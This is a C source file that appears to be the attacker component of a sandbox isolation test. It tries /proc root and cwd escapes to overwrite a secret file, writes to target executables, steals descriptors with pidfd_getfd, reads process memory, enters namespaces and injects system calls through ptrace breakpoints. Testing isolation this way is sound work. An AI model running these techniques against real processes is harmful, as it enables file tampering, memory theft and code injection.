/* SPDX-License-Identifier: MIT */
/* What an attacker does, and the log of what it got. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "zoo.h"

static int log_fd = -1;

void attack_start(void)
{
	log_fd = open(zoo_text("--log", "/dev/null"), O_WRONLY | O_APPEND | O_CLOEXEC);
	if (log_fd < 0)
		zoo_die("open the log");
}

void attack_log(const char *format, ...)
{
	char line[400];
	va_list ap;
	int n;

	va_start(ap, format);
	n = vsnprintf(line, sizeof(line), format, ap);
	va_end(ap);
	if (n > 0 && write(log_fd, line, (size_t)n) != n)
		zoo_die("write the log");
}

const char *attack_secret(void)
{
	return zoo_text("--secret", "/etc/passwd");
}

/* -- links -- */

static void open_outside(pid_t pid, const char *link)
{
	char path[512];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, link, attack_secret());
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && write(fd, "attacked", 8) == 8)
		attack_log("GOT the secret through %s\n", link);
	if (fd >= 0)
		close(fd);
}

/* Anything there at all, and whether something can be put there */
static void look_into(pid_t pid, const char *link)
{
	char path[64];
	DIR *dir;
	int n = 0, fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, link);
	dir = opendir(path);
	if (!dir)
		return;
	attack_log("hit %d\n", pid);
	for (const struct dirent *e; (e = readdir(dir));)
		n += strcmp(e->d_name, ".") && strcmp(e->d_name, "..");
	if (n)
		attack_log("GOT %d files in %s\n", n, link);
	fd = openat(dirfd(dir), "mine", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
	if (fd >= 0)
		attack_log("GOT to make a file in %s\n", link);
	closedir(dir);
}

/* At once, and later: what is not in use any more may be written (ETXTBSY) */
static void write_exe(pid_t pid)
{
	static int kept[64];
	static size_t n_kept;
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1)
		attack_log("GOT to write the executable\n");
	if (fd >= 0)
		close(fd);
	if (n_kept < sizeof(kept) / sizeof(*kept) && (fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0)
		kept[n_kept++] = fd;
	for (size_t i = 0; i < n_kept; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
		fd = open(path, O_RDWR | O_CLOEXEC);
		if (fd >= 0 && pwrite(fd, "\177", 1, 0) == 1)
			attack_log("GOT to write the executable afterwards\n");
		if (fd >= 0)
			close(fd);
	}
}

static void take_descriptors(pid_t pid)
{
	char path[64];
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int n = 0; n < 64; n++) {
		int taken = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0), outside;

		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
		outside = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
		if (outside < 0)
			outside = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (outside >= 0)
			attack_log("GOT descriptor %d open\n", n);
		if (outside >= 0)
			close(outside);
		if (taken >= 0) {
			struct stat st;

			if (fstat(taken, &st) || !S_ISSOCK(st.st_mode))
				attack_log("GOT descriptor %d, no socket\n", n);
			/* to confuse whoever listens */
			(void)!write(taken, "\2\0\0\0\0\0\0\0\1\0\0\0", 12);
			close(taken);
		}
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void enter(pid_t pid, const char *name, int type)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && setns(fd, type) == 0)
		attack_log("GOT into its %s namespace\n", name);
	if (fd >= 0)
		close(fd);
}

/* The network of a process is shown to everybody: proc(5) /proc/PID/net */
static void read_network(pid_t pid)
{
	char path[64], text[4096];
	ssize_t n;
	int fd, lines = 0;

	snprintf(path, sizeof(path), "/proc/%d/net/unix", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? 0 : read(fd, text, sizeof(text));
	for (ssize_t i = 0; i < n; i++)
		lines += text[i] == '\n';
	if (lines > 1) /* the head apart */
		attack_log("GOT %d sockets of its network\n", lines - 1);
	if (fd >= 0)
		close(fd);
}

static bool holds_word(const char *text, size_t n)
{
	const char *word = zoo_text("--word", "no such word");

	return memmem(text, n, word, strlen(word)) != NULL;
}

static void read_memory(pid_t pid)
{
	static char text[1 << 20];
	char path[64], line[512];
	FILE *maps;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	while (fd >= 0 && maps && fgets(line, sizeof(line), maps)) {
		char *end;
		unsigned long from = strtoul(line, &end, 16), to = strtoul(end + 1, NULL, 16);
		ssize_t n = pread(fd, text, to - from < sizeof(text) ? to - from : sizeof(text),
				  (off_t)from);

		if (n > 0 && holds_word(text, (size_t)n))
			attack_log("GOT a word out of its memory\n");
		if (strstr(line, ".so"))
			attack_log("GOT a library in its memory\n");
	}
	if (maps)
		fclose(maps);
	if (fd >= 0)
		close(fd);
}

void attack_links(pid_t pid)
{
	open_outside(pid, "root");
	open_outside(pid, "root/..");
	open_outside(pid, "cwd");
	open_outside(pid, "cwd/../../../../..");
	look_into(pid, "root");
	look_into(pid, "cwd");
	look_into(pid, "cwd/..");
	write_exe(pid);
	take_descriptors(pid);
	read_memory(pid);
	read_network(pid);
	enter(pid, "mnt", CLONE_NEWNS);
	enter(pid, "net", CLONE_NEWNET);
	enter(pid, "user", CLONE_NEWUSER);
	enter(pid, "ipc", CLONE_NEWIPC);
}

/* -- tracing -- */

void attack_attach(pid_t pid, bool hold)
{
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)
		attack_log("hit %d\n", pid);
	/* whoever is not held goes on, attached */
	if (!hold && waitpid(pid, NULL, WNOHANG | __WALL) == pid)
		ptrace(PTRACE_CONT, pid, 0, 0);
}

#if defined(__x86_64__)

/* The signal that it stopped with; 0: it does not, or is gone */
static int await_stop(pid_t pid)
{
	const struct timespec moment = { .tv_nsec = 100000 };
	int status;

	for (int i = 0; i < 2000; i++) {
		pid_t got = waitpid(pid, &status, WNOHANG | __WALL);

		if (got == pid)
			return WIFSTOPPED(status) ? WSTOPSIG(status) : 0;
		if (got < 0)
			return 0;
		(void)nanosleep(&moment, NULL);
	}
	return 0;
}

/* On to the breakpoint, whatever other signals there are for it */
static bool run_to_trap(pid_t pid)
{
	int signal;

	do {
		if (ptrace(PTRACE_CONT, pid, 0, 0))
			return false;
		signal = await_stop(pid);
	} while (signal && signal != SIGTRAP);
	return signal == SIGTRAP;
}

struct victim {
	pid_t pid;
	struct user_regs_struct registers;
	long code;  /* where an instruction was put */
	long place; /* where data can be put */
};

/* A system call and a breakpoint where its next instruction stands: ptrace writes through */
static bool victim_take(pid_t pid, struct victim *ret)
{
	*ret = (struct victim){ .pid = pid };
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) || !await_stop(pid) ||
	    ptrace(PTRACE_GETREGS, pid, 0, &ret->registers))
		return false;
	ret->code = (long)ret->registers.rip & ~7L;
	ret->place = ((long)ret->registers.rsp & ~7L) - 1024;
	return ptrace(PTRACE_POKETEXT, pid, ret->code, 0x9090909090cc050fL) == 0;
}

/* One system call in its place; the result, or -EFAULT where it went no further */
static long victim_call(const struct victim *v, long nr, long a, long b, long c, long d)
{
	struct user_regs_struct r = v->registers;

	r.rip = (unsigned long)v->code;
	r.rax = (unsigned long)nr;
	r.orig_rax = ~0UL;
	r.rdi = (unsigned long)a;
	r.rsi = (unsigned long)b;
	r.rdx = (unsigned long)c;
	r.r10 = (unsigned long)d;
	if (ptrace(PTRACE_SETREGS, v->pid, 0, &r) || !run_to_trap(v->pid) ||
	    ptrace(PTRACE_GETREGS, v->pid, 0, &r))
		return -EFAULT;
	return (long)r.rax;
}

static void victim_text(const struct victim *v, const char *text)
{
	char padded[256] = "";

	snprintf(padded, sizeof(padded), "%s", text);
	for (size_t i = 0; i <= strlen(text) / 8; i++) {
		long word;

		memcpy(&word, padded + 8 * i, sizeof(word));
		ptrace(PTRACE_POKEDATA, v->pid, v->place + (long)(8 * i), word);
	}
}

static void try_call(const struct victim *v, const char *what, long nr, long a, long b, long c,
		     long d)
{
	long r = victim_call(v, nr, a, b, c, d);

	if (r != -EFAULT)
		attack_log("hit %d\n", v->pid);
	if (r >= 0)
		attack_log("GOT it to do %s: %ld\n", what, r);
}

void attack_inject(pid_t pid)
{
	struct victim v;

	if (!victim_take(pid, &v))
		return;
	victim_text(&v, attack_secret());
	try_call(&v, "openat", SYS_openat, AT_FDCWD, v.place, O_RDWR, 0);
	try_call(&v, "open", SYS_open, v.place, O_RDWR, 0, 0);
	victim_text(&v, "/");
	try_call(&v, "openat of a root", SYS_openat, AT_FDCWD, v.place, O_RDONLY, 0);
	try_call(&v, "chroot", SYS_chroot, v.place, 0, 0, 0);
	try_call(&v, "socket", SYS_socket, 2, 1, 0, 0);
	try_call(&v, "mmap", SYS_mmap, 0, 4096, 7, 0x22);
	try_call(&v, "unshare", SYS_unshare, CLONE_NEWUSER, 0, 0, 0);
	try_call(&v, "memfd_create", SYS_memfd_create, v.place, 0, 0, 0);
	try_call(&v, "setns", SYS_setns, 0, 0, 0, 0);
	try_call(&v, "kill", SYS_kill, 0, SIGKILL, 0, 0);
	try_call(&v, "ptrace", SYS_ptrace, PTRACE_TRACEME, 0, 0, 0);
	try_call(&v, "clone of its memory", SYS_clone, CLONE_VM | SIGCHLD, 0, 0, 0);
	/* plain children: it may have one that its task needs, and no more */
	for (int i = 0; i < 3; i++)
		(void)victim_call(&v, SYS_clone, SIGCHLD, 0, 0, 0);
	(void)victim_call(&v, SYS_setsid, 0, 0, 0, 0);
	(void)victim_call(&v, SYS_ppoll, 0, 0, 0, 0);
}

#else

void attack_inject(pid_t pid)
{
	attack_attach(pid, true);
}

#endif
